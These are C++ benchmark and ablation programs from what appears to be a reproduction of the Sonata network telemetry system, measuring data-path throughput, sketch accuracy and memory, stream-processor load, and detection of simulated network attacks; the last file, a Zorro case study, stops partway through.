                "  \"lost_packets\": %llu,\n  \"pass\": %s\n}\n",
                bench::hardware_json().c_str(), smoke ? "true" : "false", trace_pkts.size(),
                schedule.size(), inc_ms,
                scratch_ms, speedup, ratio, cost_mismatches,
                static_cast<unsigned long long>(inc.incremental_solves()),
                static_cast<unsigned long long>(inc.full_solves()), slices.size(), swaps,
                static_cast<unsigned long long>(lost), pass ? "true" : "false");
  json << buf;
  std::printf("\nWrote BENCH_admission.json\n");

  if (!pass) {
    std::printf("FAIL: latency=%d cost=%d windows=%d\n", latency_ok, cost_ok, windows_ok);
    return 1;
  }
  std::printf("PASS: all admission gates hold\n");
  return 0;
}
