// Extension benchmark: batched data-path throughput (DESIGN.md "Data-path
// memory model").
//
// One MaxDP plan on a fixed 8-switch fleet, replaying the same trace for
// every (batch size, worker threads) combination. `batch` is the handoff
// granularity of the whole data path: driver-side packet runs, one SPSC
// acquire/release pair and at most one worker wakeup per run, one
// Switch::process_batch call into the shard emit arena, and a move-based
// merge into the stream executors at the barrier. batch=1 is the legacy
// per-packet path and the equivalence reference.
//
// Reported per configuration: wall-clock packets/sec (best of five
// replays), speedup vs batch=1 at the same thread count, and whether the
// windows are bit-identical to the reference. Results also land in
// BENCH_datapath.json (machine-readable, one object per configuration) for
// CI and EXPERIMENTS.md.
#include <chrono>
#include <cstdio>
#include <fstream>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "common.h"
#include "runtime/fleet.h"
#include "runtime/stream_processor.h"

using namespace sonata;

namespace {

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].raw_mirror_packets != b[w].raw_mirror_packets ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
    if (!(a[w].winners == b[w].winners)) return false;
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  constexpr std::size_t kSwitches = 8;
  constexpr int kReps = 5;

  // Data-path focus: one long window (control-plane work — register polls,
  // resets, refinement — runs once and amortizes away) and one light query,
  // so the measurement tracks the per-packet path this bench exists for:
  // parse -> pipelines -> SPSC handoff -> emit arena -> barrier merge.
  trace::BackgroundConfig bg;
  bg.duration_sec = 15.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  const auto trace = trace::TraceBuilder(opts.seed).background(bg).build();

  queries::Thresholds th;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(30)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  cfg.window = util::seconds(30);
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  std::printf("Batched data path: %zu-switch fleet, %zu packets, best of %d replays\n",
              kSwitches, trace.size(), kReps);
  std::printf("(hardware reports %u cores)\n\n", std::thread::hardware_concurrency());

  // Reference: per-packet serial replay.
  runtime::Fleet reference_fleet(plan, kSwitches, 0, 1);
  const auto reference = reference_fleet.run_trace(trace);

  struct Config {
    std::size_t batch;
    std::size_t threads;
    double pps = 0.0;
    double seconds = 0.0;
    bool identical = false;
  };
  std::vector<Config> configs;
  for (const std::size_t batch : {1u, 64u, 256u, 1024u}) {
    for (const std::size_t threads : {0u, 1u, 8u}) {
      Config c{batch, threads};
      c.seconds = 1e30;
      configs.push_back(c);
    }
  }

  // Rep-outer so background load drift on a shared machine hits every
  // configuration equally; best-of keeps the cleanest replay per config.
  for (int rep = 0; rep < kReps; ++rep) {
    for (Config& c : configs) {
      runtime::Fleet fleet(plan, kSwitches, c.threads, c.batch);
      const auto t0 = std::chrono::steady_clock::now();
      const auto windows = fleet.run_trace(trace);
      const auto t1 = std::chrono::steady_clock::now();
      c.seconds = std::min(c.seconds, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) c.identical = identical_windows(reference, windows);
    }
  }
  std::map<std::size_t, double> baseline_pps;  // threads -> pps at batch=1
  for (Config& c : configs) {
    c.pps = static_cast<double>(trace.size()) / c.seconds;
    if (c.batch == 1) baseline_pps[c.threads] = c.pps;
  }

  std::vector<std::vector<std::string>> rows;
  for (const Config& c : configs) {
    char pps_s[32], speedup_s[32];
    std::snprintf(pps_s, sizeof pps_s, "%.2fM", c.pps / 1e6);
    std::snprintf(speedup_s, sizeof speedup_s, "%.2fx", c.pps / baseline_pps[c.threads]);
    rows.push_back({std::to_string(c.batch), std::to_string(c.threads), pps_s, speedup_s,
                    c.identical ? "yes" : "NO"});
  }
  bench::print_table({"batch", "threads", "packets/sec", "vs batch=1", "bit-identical"}, rows);
  std::printf("\nEvery configuration replays the same trace through the same plan; only\n");
  std::printf("the handoff granularity changes, so all windows match the reference.\n");

  std::ofstream json("BENCH_datapath.json");
  json << "{\n  \"bench\": \"datapath_throughput\",\n";
  json << "  \"switches\": " << kSwitches << ",\n";
  json << "  \"packets\": " << trace.size() << ",\n";
  json << "  \"reps\": " << kReps << ",\n";
  json << "  \"hardware\": " << bench::hardware_json() << ",\n";
  json << "  \"configs\": [\n";
  for (std::size_t i = 0; i < configs.size(); ++i) {
    const Config& c = configs[i];
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "    {\"batch\": %zu, \"threads\": %zu, \"pps\": %.0f, "
                  "\"seconds\": %.4f, \"speedup_vs_batch1\": %.3f, \"identical\": %s}%s\n",
                  c.batch, c.threads, c.pps, c.seconds, c.pps / baseline_pps[c.threads],
                  c.identical ? "true" : "false", i + 1 == configs.size() ? "" : ",");
    json << buf;
  }
  json << "  ]\n}\n";
  std::printf("\nWrote BENCH_datapath.json\n");
  return 0;
}
