// Extension benchmark: sketch-backed keyed state vs the exact flat engines
// (DESIGN.md "Keyed-state engines").
//
// Three measurements over a deterministic Zipf workload whose per-key
// ground truth is known analytically (key i carries weight K/(i+1), keys
// visited in a bijective mixed order):
//
//  1. Reduce ablation — state::ReduceEngine in exact vs sketch
//     (count-min + heavy-key store) mode across cardinalities up to 2^24
//     (~16.8M) keys. The sketch runs under a fixed memory cap that exact
//     state cannot meet at the top tier (exact bytes are measured where
//     feasible and projected linearly above that); every drained estimate
//     must respect the one-sided count-min error bound, and the keys
//     heavier than eps*N must survive the heavy-store eviction discipline.
//
//  2. Distinct ablation — state::DistinctEngine exact vs Bloom vs cuckoo.
//     No false negatives by construction; the measured false-positive
//     rate must stay within a small multiple of eps.
//
//  3. Exact-path regression — ns/update of the exact ReduceEngine vs the
//     same loop on a bare util::FlatMap. The engine wrapper is one
//     predicted branch; it must stay within noise of the direct table
//     (and thereby of PR 4's BENCH_keyed_state.json numbers).
//
// Results land in BENCH_sketch.json. Exit status gates CI:
//   1 — accuracy: estimate outside the eps/delta envelope, heavy keys
//       lost, or distinct false-positive rate blown (always fatal),
//   2 — full mode only: exact engine ns/update > 1.3x the bare flat
//       table (--smoke skips the perf gate: sanitizer builds skew timing),
//   3 — sketch memory exceeded the fixed cap it promises to respect.
#include <chrono>
#include <cinttypes>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "common.h"
#include "query/state_spec.h"
#include "state/engine.h"
#include "util/flat_table.h"

using namespace sonata;

namespace {

// Bijective visit order on [0, 2^k): odd multiplier mod a power of two.
constexpr std::uint64_t kPerm = 0x9E3779B97F4A7C15ULL;

query::Tuple make_key(std::uint64_t id) {
  query::Tuple t;
  t.values.emplace_back(id);
  return t;
}

// Zipf-ish analytic weight: key i carries floor(K/(i+1)), min 1. The true
// per-key aggregate is the weight itself (one update per key), so error is
// measured against closed-form ground truth, not a replayed exact run.
std::uint64_t true_weight(std::uint64_t key_id, std::uint64_t cardinality) {
  const std::uint64_t w = cardinality / (key_id + 1);
  return w == 0 ? 1 : w;
}

struct ReduceTier {
  std::uint64_t keys = 0;       // power of two
  std::uint64_t total_weight = 0;
  double sketch_ns = 0.0;
  double exact_ns = 0.0;        // 0 when exact was not run at this tier
  std::uint64_t sketch_bytes = 0;
  std::uint64_t exact_bytes = 0;      // measured (exact_measured) or projected
  bool exact_measured = false;
  std::uint64_t heavy_keys = 0;       // keys with weight >= eps*N
  std::uint64_t heavy_found = 0;      // ... that survived in the drain
  std::uint64_t heavy_in_bound = 0;   // ... whose estimate err <= eps*N
  std::uint64_t underestimates = 0;   // count-min must never underestimate
  std::uint64_t drained = 0;
};

ReduceTier run_reduce_tier(std::uint64_t cardinality, double eps, double delta) {
  ReduceTier r;
  r.keys = cardinality;
  const std::uint64_t mask = cardinality - 1;

  query::StateSpec spec;
  spec.kind = query::StateSpec::Kind::kSketch;
  spec.eps = eps;
  spec.delta = delta;
  state::ReduceEngine sketch;
  sketch.configure(spec, query::ReduceFn::kSum);

  const auto t0 = std::chrono::steady_clock::now();
  for (std::uint64_t j = 0; j < cardinality; ++j) {
    const std::uint64_t id = (j * kPerm) & mask;
    query::Tuple key = make_key(id);
    const std::uint64_t h = key.hash();
    const std::uint64_t w = true_weight(id, cardinality);
    r.total_weight += w;
    sketch.update(std::move(key), h, w);
  }
  const auto t1 = std::chrono::steady_clock::now();
  r.sketch_ns = std::chrono::duration<double, std::nano>(t1 - t0).count() /
                static_cast<double>(cardinality);
  r.sketch_bytes = sketch.usage().bytes;

  const double bound = eps * static_cast<double>(r.total_weight);
  std::unordered_map<std::uint64_t, std::uint64_t> drained;
  sketch.drain_and_clear([&](query::Tuple&& key, std::uint64_t est) {
    drained.emplace(key.at(0).as_uint(), est);
  });
  r.drained = drained.size();
  for (const auto& [id, est] : drained) {
    const std::uint64_t truth = true_weight(id, cardinality);
    if (est < truth) ++r.underestimates;
  }
  for (std::uint64_t id = 0; id < cardinality; ++id) {
    const std::uint64_t truth = true_weight(id, cardinality);
    if (static_cast<double>(truth) < bound) break;  // weights are non-increasing in id
    ++r.heavy_keys;
    const auto it = drained.find(id);
    if (it == drained.end()) continue;
    ++r.heavy_found;
    const double err = static_cast<double>(it->second) - static_cast<double>(truth);
    if (err <= bound) ++r.heavy_in_bound;
  }
  return r;
}

// Exact reduce over the same workload: measured bytes + ns/update.
void run_reduce_exact(ReduceTier& r) {
  state::ReduceEngine exact;  // default spec: exact
  const std::uint64_t mask = r.keys - 1;
  const auto t0 = std::chrono::steady_clock::now();
  for (std::uint64_t j = 0; j < r.keys; ++j) {
    const std::uint64_t id = (j * kPerm) & mask;
    query::Tuple key = make_key(id);
    const std::uint64_t h = key.hash();
    exact.update(std::move(key), h, true_weight(id, r.keys));
  }
  const auto t1 = std::chrono::steady_clock::now();
  r.exact_ns = std::chrono::duration<double, std::nano>(t1 - t0).count() /
               static_cast<double>(r.keys);
  r.exact_bytes = exact.usage().bytes;
  r.exact_measured = true;
}

struct DistinctResult {
  std::string engine;
  std::uint64_t keys = 0;
  std::uint64_t false_positives = 0;  // first insert reported "seen"
  std::uint64_t bytes = 0;
  double ns_per_insert = 0.0;
  [[nodiscard]] double fp_rate() const {
    return static_cast<double>(false_positives) / static_cast<double>(keys);
  }
};

DistinctResult run_distinct(const char* name, const query::StateSpec& spec,
                            std::uint64_t cardinality) {
  DistinctResult d;
  d.engine = name;
  d.keys = cardinality;
  state::DistinctEngine eng;
  eng.configure(spec);
  const std::uint64_t mask = cardinality - 1;
  const auto t0 = std::chrono::steady_clock::now();
  for (std::uint64_t j = 0; j < cardinality; ++j) {
    const std::uint64_t id = (j * kPerm) & mask;
    const query::Tuple key = make_key(id);
    if (!eng.insert_new(key, key.hash())) ++d.false_positives;  // every key is new
  }
  const auto t1 = std::chrono::steady_clock::now();
  d.ns_per_insert = std::chrono::duration<double, std::nano>(t1 - t0).count() /
                    static_cast<double>(cardinality);
  d.bytes = eng.usage().bytes;
  return d;
}

// The exact-path regression loop: identical updates through the engine and
// through a bare FlatMap (the PR 4 hot path ext_keyed_state benchmarks).
struct PerfResult {
  double engine_ns = 0.0;
  double direct_ns = 0.0;
  [[nodiscard]] double ratio() const { return engine_ns / direct_ns; }
};

PerfResult run_perf(std::uint64_t cardinality, std::uint64_t updates, int reps) {
  std::vector<query::Tuple> keys;
  std::vector<std::uint64_t> hashes;
  keys.reserve(cardinality);
  hashes.reserve(cardinality);
  for (std::uint64_t i = 0; i < cardinality; ++i) {
    keys.push_back(make_key(i));
    hashes.push_back(keys.back().hash());
  }
  std::vector<std::uint32_t> order(updates);
  for (std::uint64_t j = 0; j < updates; ++j) {
    order[j] = static_cast<std::uint32_t>((j * kPerm) % cardinality);
  }

  PerfResult p{1e30, 1e30};
  volatile std::uint64_t sink = 0;
  for (int rep = 0; rep < reps; ++rep) {
    {
      state::ReduceEngine eng;  // exact mode
      const auto t0 = std::chrono::steady_clock::now();
      for (const std::uint32_t idx : order) {
        eng.update(query::Tuple(keys[idx]), hashes[idx], 1);
      }
      std::uint64_t total = 0;
      eng.drain_and_clear([&](query::Tuple&&, std::uint64_t v) { total += v; });
      sink += total;
      const auto t1 = std::chrono::steady_clock::now();
      p.engine_ns = std::min(p.engine_ns,
                             std::chrono::duration<double, std::nano>(t1 - t0).count() /
                                 static_cast<double>(updates));
    }
    {
      util::FlatMap<std::uint64_t> agg;
      const auto t0 = std::chrono::steady_clock::now();
      for (const std::uint32_t idx : order) {
        auto [slot, inserted] = agg.try_emplace(query::Tuple(keys[idx]), hashes[idx], 1);
        if (!inserted) ++*slot;
      }
      std::uint64_t total = 0;
      for (const auto& e : agg.entries()) total += e.value;
      sink += total;
      agg.clear();
      const auto t1 = std::chrono::steady_clock::now();
      p.direct_ns = std::min(p.direct_ns,
                             std::chrono::duration<double, std::nano>(t1 - t0).count() /
                                 static_cast<double>(updates));
    }
  }
  (void)sink;
  return p;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  (void)opts;
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
  }

  // The accuracy knob for the sweep, and the fixed memory budget sketched
  // state promises to respect regardless of cardinality.
  const double eps = smoke ? 1e-3 : 1e-4;
  const double delta = 0.01;
  const std::uint64_t cap_bytes = smoke ? (8ull << 20) : (64ull << 20);
  // Exact state is materialized only up to this tier; above it the exact
  // footprint is projected linearly (running it for real would need GBs).
  const std::uint64_t exact_limit = smoke ? (1ull << 15) : (1ull << 20);

  std::vector<std::uint64_t> tiers;
  if (smoke) {
    tiers = {1ull << 12, 1ull << 15};
  } else {
    tiers = {1ull << 17, 1ull << 20, 1ull << 24};  // 131K, 1M, ~16.8M keys
  }

  // --- Reduce ablation ----------------------------------------------------
  std::printf("Sketch ablation: Zipf reduce, eps=%g delta=%g, cap %" PRIu64 " MiB\n\n", eps,
              delta, cap_bytes >> 20);
  std::vector<ReduceTier> reduce;
  double per_key_exact_bytes = 0.0;
  for (const std::uint64_t k : tiers) {
    ReduceTier r = run_reduce_tier(k, eps, delta);
    if (k <= exact_limit) {
      run_reduce_exact(r);
      per_key_exact_bytes =
          static_cast<double>(r.exact_bytes) / static_cast<double>(r.keys);
    } else {
      r.exact_bytes =
          static_cast<std::uint64_t>(per_key_exact_bytes * static_cast<double>(r.keys));
    }
    reduce.push_back(r);
  }
  {
    std::vector<std::vector<std::string>> rows;
    for (const ReduceTier& r : reduce) {
      char sk_ns[32], ex_ns[32], sk_mb[32], ex_mb[32], heavy[48];
      std::snprintf(sk_ns, sizeof sk_ns, "%.1f", r.sketch_ns);
      std::snprintf(ex_ns, sizeof ex_ns, r.exact_measured ? "%.1f" : "-", r.exact_ns);
      std::snprintf(sk_mb, sizeof sk_mb, "%.2f", static_cast<double>(r.sketch_bytes) / 1e6);
      std::snprintf(ex_mb, sizeof ex_mb, "%.1f%s",
                    static_cast<double>(r.exact_bytes) / 1e6, r.exact_measured ? "" : "*");
      std::snprintf(heavy, sizeof heavy, "%" PRIu64 "/%" PRIu64 " (%" PRIu64 " in-bound)",
                    r.heavy_found, r.heavy_keys, r.heavy_in_bound);
      rows.push_back({bench::fmt_count(r.keys), sk_ns, ex_ns, sk_mb, ex_mb, heavy});
    }
    bench::print_table(
        {"keys", "sketch ns/upd", "exact ns/upd", "sketch MB", "exact MB", "heavy kept"}, rows);
    std::printf("  (* = projected from %.1f B/key; exact not materialized at that tier)\n\n",
                per_key_exact_bytes);
  }

  // --- Distinct ablation --------------------------------------------------
  const std::uint64_t dk = smoke ? (1ull << 15) : (1ull << 24);
  query::StateSpec bloom_spec;
  bloom_spec.kind = query::StateSpec::Kind::kSketch;
  bloom_spec.eps = smoke ? 1e-2 : 1e-3;
  bloom_spec.capacity = dk;
  query::StateSpec cuckoo_spec = bloom_spec;
  cuckoo_spec.membership = query::StateSpec::Membership::kCuckoo;

  std::vector<DistinctResult> distinct;
  distinct.push_back(run_distinct("bloom", bloom_spec, dk));
  distinct.push_back(run_distinct("cuckoo", cuckoo_spec, dk));
  {
    // Exact distinct for the footprint comparison (capped tier).
    const std::uint64_t ek = std::min(dk, exact_limit);
    DistinctResult ex = run_distinct("exact", query::StateSpec{}, ek);
    if (ek < dk) {
      ex.bytes = static_cast<std::uint64_t>(static_cast<double>(ex.bytes) /
                                            static_cast<double>(ek) * static_cast<double>(dk));
      ex.keys = dk;
    }
    distinct.push_back(ex);
  }
  {
    std::vector<std::vector<std::string>> rows;
    for (const DistinctResult& d : distinct) {
      char fp[32], mb[32], ns[32];
      std::snprintf(fp, sizeof fp, "%.5f", d.fp_rate());
      std::snprintf(mb, sizeof mb, "%.2f", static_cast<double>(d.bytes) / 1e6);
      std::snprintf(ns, sizeof ns, "%.1f", d.ns_per_insert);
      rows.push_back({d.engine, bench::fmt_count(d.keys), fp, mb, ns});
    }
    bench::print_table({"engine", "keys", "fp rate", "MB", "ns/insert"}, rows);
  }

  // --- Exact-path regression ----------------------------------------------
  const PerfResult perf =
      smoke ? run_perf(1ull << 12, 1ull << 14, 1) : run_perf(1ull << 20, 1ull << 21, 3);
  std::printf("\nExact path: engine %.1f ns/update vs bare flat table %.1f (ratio %.3f)\n",
              perf.engine_ns, perf.direct_ns, perf.ratio());

  // --- Gates --------------------------------------------------------------
  bool accuracy_ok = true;
  for (const ReduceTier& r : reduce) {
    // Count-min never underestimates; heavy keys must survive eviction and
    // sit inside eps*N with prob >= 1-delta (generous slack for the union
    // of hash choices across the heavy set).
    if (r.underestimates != 0) accuracy_ok = false;
    if (r.heavy_keys > 0) {
      const double found = static_cast<double>(r.heavy_found);
      const double in_bound = static_cast<double>(r.heavy_in_bound);
      const double total = static_cast<double>(r.heavy_keys);
      if (found / total < 0.9) accuracy_ok = false;
      if (found > 0 && in_bound / found < 1.0 - delta - 0.05) accuracy_ok = false;
    }
  }
  for (const DistinctResult& d : distinct) {
    if (d.engine == "exact") {
      if (d.false_positives != 0) accuracy_ok = false;  // exact is exact
    } else if (d.fp_rate() > 3.0 * bloom_spec.eps + 1e-4) {
      accuracy_ok = false;
    }
  }
  bool memory_ok = true;
  for (const ReduceTier& r : reduce) {
    if (r.sketch_bytes > cap_bytes) memory_ok = false;
  }
  for (const DistinctResult& d : distinct) {
    if (d.engine != "exact" && d.bytes > cap_bytes) memory_ok = false;
  }
  const bool perf_ok = smoke || perf.ratio() <= 1.3;

  // --- JSON ---------------------------------------------------------------
  std::ofstream json("BENCH_sketch.json");
  json << "{\n  \"bench\": \"sketch_ablation\",\n";
  json << "  \"smoke\": " << (smoke ? "true" : "false") << ",\n";
  char hdr[256];
  std::snprintf(hdr, sizeof hdr,
                "  \"eps\": %g,\n  \"delta\": %g,\n  \"cap_bytes\": %" PRIu64
                ",\n  \"hardware\": %s,\n",
                eps, delta, cap_bytes, bench::hardware_json().c_str());
  json << hdr;
  json << "  \"reduce\": [\n";
  for (std::size_t i = 0; i < reduce.size(); ++i) {
    const ReduceTier& r = reduce[i];
    char buf[512];
    std::snprintf(buf, sizeof buf,
                  "    {\"keys\": %" PRIu64 ", \"total_weight\": %" PRIu64
                  ", \"sketch_ns_per_update\": %.2f, \"exact_ns_per_update\": %.2f, "
                  "\"sketch_bytes\": %" PRIu64 ", \"exact_bytes\": %" PRIu64
                  ", \"exact_measured\": %s, \"heavy_keys\": %" PRIu64
                  ", \"heavy_found\": %" PRIu64 ", \"heavy_in_bound\": %" PRIu64
                  ", \"underestimates\": %" PRIu64 ", \"drained\": %" PRIu64 "}%s\n",
                  r.keys, r.total_weight, r.sketch_ns, r.exact_ns, r.sketch_bytes,
                  r.exact_bytes, r.exact_measured ? "true" : "false", r.heavy_keys,
                  r.heavy_found, r.heavy_in_bound, r.underestimates, r.drained,
                  i + 1 == reduce.size() ? "" : ",");
    json << buf;
  }
  json << "  ],\n  \"distinct\": [\n";
  for (std::size_t i = 0; i < distinct.size(); ++i) {
    const DistinctResult& d = distinct[i];
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "    {\"engine\": \"%s\", \"keys\": %" PRIu64 ", \"fp_rate\": %.6f, "
                  "\"bytes\": %" PRIu64 ", \"ns_per_insert\": %.2f}%s\n",
                  d.engine.c_str(), d.keys, d.fp_rate(), d.bytes, d.ns_per_insert,
                  i + 1 == distinct.size() ? "" : ",");
    json << buf;
  }
  json << "  ],\n";
  {
    char buf[192];
    std::snprintf(buf, sizeof buf,
                  "  \"exact_path\": {\"engine_ns_per_update\": %.2f, "
                  "\"flat_ns_per_update\": %.2f, \"ratio\": %.3f},\n",
                  perf.engine_ns, perf.direct_ns, perf.ratio());
    json << buf;
  }
  json << "  \"gate\": {\"accuracy_ok\": " << (accuracy_ok ? "true" : "false")
       << ", \"perf_ok\": " << (perf_ok ? "true" : "false")
       << ", \"memory_ok\": " << (memory_ok ? "true" : "false") << "}\n}\n";
  std::printf("Wrote BENCH_sketch.json\n");

  if (!accuracy_ok) {
    std::fprintf(stderr, "GATE FAILURE: sketch estimates outside the eps/delta envelope\n");
    return 1;
  }
  if (!memory_ok) {
    std::fprintf(stderr, "GATE FAILURE: sketch memory exceeded its fixed cap\n");
    return 3;
  }
  if (!perf_ok) {
    std::fprintf(stderr, "GATE FAILURE: exact engine ns/update regressed vs bare flat table\n");
    return 2;
  }
  return 0;
}
