// Figure 7b reproduction: tuples received by the stream processor when
// running the first k of the eight evaluation queries concurrently,
// k = 1..8, under the five plans of Table 4.
//
// Shape to match the paper: All-SP stays flat (each packet is mirrored
// once, regardless of query count); Fix-REF degrades fastest as its fixed
// chains exhaust switch resources; Sonata stays orders of magnitude below
// the alternatives as queries pile up.
#include <cstdio>

#include "common.h"

using namespace sonata;

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  const auto workload = bench::make_eval_workload(opts);
  const auto windows = planner::materialize_windows(workload.trace, workload.window);
  const auto all_queries = queries::evaluation_queries(workload.thresholds, workload.window);

  std::printf("Figure 7b: multi-query load on the stream processor\n");
  std::printf("(total tuples over %zu packets; queries added in Table 3 order)\n\n",
              workload.trace.size());

  planner::EstimatorPool pool(all_queries, windows, {8, 16, 24}, {1, 2});

  std::vector<std::vector<std::string>> measured_rows;
  std::vector<std::vector<std::string>> estimate_rows;
  for (std::size_t k = 1; k <= all_queries.size(); ++k) {
    const std::vector<query::Query> subset(all_queries.begin(),
                                           all_queries.begin() + static_cast<std::ptrdiff_t>(k));
    std::vector<std::string> mrow{std::to_string(k)};
    std::vector<std::string> erow{std::to_string(k)};
    for (const auto mode : bench::all_modes()) {
      planner::PlannerConfig cfg;
      cfg.mode = mode;
      cfg.window = workload.window;
      const auto plan = planner::Planner(cfg).plan_windows(subset, windows, &pool);
      const auto m = bench::measure_runtime(plan, workload.trace);
      mrow.push_back(bench::fmt_count(m.tuples_to_sp));
      erow.push_back(bench::fmt_count(plan.est_total_tuples));
    }
    measured_rows.push_back(std::move(mrow));
    estimate_rows.push_back(std::move(erow));
  }
  std::printf("Measured (runtime, total tuples incl. collision overflow):\n\n");
  bench::print_table({"#queries", "All-SP", "Filter-DP", "Max-DP", "Fix-REF", "Sonata"},
                     measured_rows);
  std::printf("\nPlanner estimate (tuples/window — the paper's trace-driven metric):\n\n");
  bench::print_table({"#queries", "All-SP", "Filter-DP", "Max-DP", "Fix-REF", "Sonata"},
                     estimate_rows);
  return 0;
}
