// Ablations over the design choices DESIGN.md calls out, on the Figure 7
// workload with the eight evaluation queries under Sonata plans:
//
//   A1  collision-chain depth d          (paper §3.1.3 / Figure 3)
//   A2  register headroom factor         (n = headroom * training keys, §3.3)
//   A3  relaxed-threshold margin         (§4.1's trained thresholds)
//   A4  number of candidate refinement levels (§6.1 found >8 levels marginal)
//
// Reported per setting: planner-estimated tuples/window, measured tuples,
// measured collision-overflow records, and detection coverage (fraction of
// the seven ground-truth attacks detected at least once).
#include <cstdio>
#include <set>

#include "common.h"

using namespace sonata;

namespace {

struct Outcome {
  std::uint64_t est = 0;
  std::uint64_t measured = 0;
  std::uint64_t overflow = 0;
  double coverage = 0.0;
};

Outcome evaluate(const bench::Workload& workload,
                 const std::vector<planner::TupleWindow>& windows,
                 const std::vector<query::Query>& queries, planner::PlannerConfig cfg) {
  cfg.window = workload.window;
  const auto plan = planner::Planner(cfg).plan_windows(queries, windows);
  runtime::Runtime rt(plan);
  Outcome out;
  out.est = plan.est_total_tuples;
  std::set<std::pair<query::QueryId, std::uint64_t>> hits;
  for (const auto& ws : rt.run_trace(workload.trace)) {
    out.measured += ws.tuples_to_sp;
    out.overflow += ws.overflow_records;
    for (const auto& r : ws.results) {
      for (const auto& t : r.outputs) hits.insert({r.qid, t.at(0).as_uint()});
    }
  }
  const std::vector<std::pair<query::QueryId, std::uint64_t>> truth = {
      {1, workload.syn_victim},   {2, workload.ssh_victim},       {3, workload.spreader},
      {4, workload.scanner},      {5, workload.ddos_victim},      {6, workload.syn_victim},
      {7, workload.incomplete_victim}, {8, workload.slowloris_victim}};
  int found = 0;
  for (const auto& t : truth) found += hits.contains(t) ? 1 : 0;
  out.coverage = static_cast<double>(found) / static_cast<double>(truth.size());
  return out;
}

std::vector<std::string> row(const std::string& label, const Outcome& o) {
  char cov[16];
  std::snprintf(cov, sizeof cov, "%.0f%%", o.coverage * 100.0);
  return {label, bench::fmt_count(o.est), bench::fmt_count(o.measured),
          bench::fmt_count(o.overflow), cov};
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  const auto workload = bench::make_eval_workload(opts);
  const auto windows = planner::materialize_windows(workload.trace, workload.window);
  const auto queries = queries::evaluation_queries(workload.thresholds, workload.window);
  const std::vector<std::string> header = {"setting", "est/window", "measured", "overflow",
                                           "attacks found"};

  std::printf("Ablations (8 queries, Sonata plans, %zu packets)\n", workload.trace.size());

  {
    std::printf("\nA1: register chain depth d (collision mitigation, Fig. 3)\n\n");
    std::vector<std::vector<std::string>> rows;
    for (const int d : {1, 2, 3, 4}) {
      planner::PlannerConfig cfg;
      cfg.register_depth = d;
      rows.push_back(row("d=" + std::to_string(d), evaluate(workload, windows, queries, cfg)));
    }
    bench::print_table(header, rows);
  }

  {
    std::printf("\nA2: register headroom (n = headroom * median training keys)\n\n");
    std::vector<std::vector<std::string>> rows;
    for (const double h : {0.5, 1.0, 2.0, 3.0, 6.0}) {
      planner::PlannerConfig cfg;
      cfg.register_headroom = h;
      char label[16];
      std::snprintf(label, sizeof label, "h=%.1f", h);
      rows.push_back(row(label, evaluate(workload, windows, queries, cfg)));
    }
    bench::print_table(header, rows);
  }

  {
    std::printf("\nA3: relaxed-threshold margin (1.0 = exact training minimum)\n\n");
    std::vector<std::vector<std::string>> rows;
    for (const double m : {0.25, 0.5, 0.75, 1.0}) {
      planner::PlannerConfig cfg;
      cfg.relax_margin = m;
      char label[16];
      std::snprintf(label, sizeof label, "margin=%.2f", m);
      rows.push_back(row(label, evaluate(workload, windows, queries, cfg)));
    }
    bench::print_table(header, rows);
  }

  {
    std::printf("\nA4: candidate refinement levels (paper used 8; >8 marginal)\n\n");
    std::vector<std::vector<std::string>> rows;
    const std::vector<std::pair<std::string, std::vector<int>>> settings = {
        {"{16}", {16}},
        {"{8,16,24}", {8, 16, 24}},
        {"{4..28 by 4}", {4, 8, 12, 16, 20, 24, 28}},
    };
    for (const auto& [label, levels] : settings) {
      planner::PlannerConfig cfg;
      cfg.ip_levels = levels;
      rows.push_back(row(label, evaluate(workload, windows, queries, cfg)));
    }
    bench::print_table(header, rows);
  }
  return 0;
}
