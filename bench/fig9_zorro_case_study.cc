// Figure 9 reproduction: the end-to-end Zorro case study.
//
// Timeline (the paper's, on our PISA simulator instead of a Tofino):
//   t = 10 s  attacker starts sending similar-sized telnet packets to the
//             victim; refinement zooms in over the next windows,
//   t = 20 s  attacker gains shell access and issues commands containing
//             the keyword "zorro",
//   t <= 21s+ Sonata confirms the attack with only a handful of tuples ever
//             reaching the stream processor.
//
// The output prints, per window: packets received by the switch, tuples
// reported to the stream processor, and the detection events — the two
// series of the paper's Figure 9.
#include <cstdio>

#include "common.h"
#include "util/ip.h"

using namespace sonata;

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  const auto workload = bench::make_zorro_workload(opts);

  std::vector<query::Query> qs;
  qs.push_back(queries::make_zorro(workload.thresholds, workload.window));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kSonata;
  cfg.window = workload.window;
  cfg.ip_levels = {8, 16, 24};
  // Train on the first 9 s (pre-attack) plus the attack-bearing remainder;
  // the paper trains on historical traces of the same link.
  const auto plan = planner::Planner(cfg).plan(qs, workload.trace);
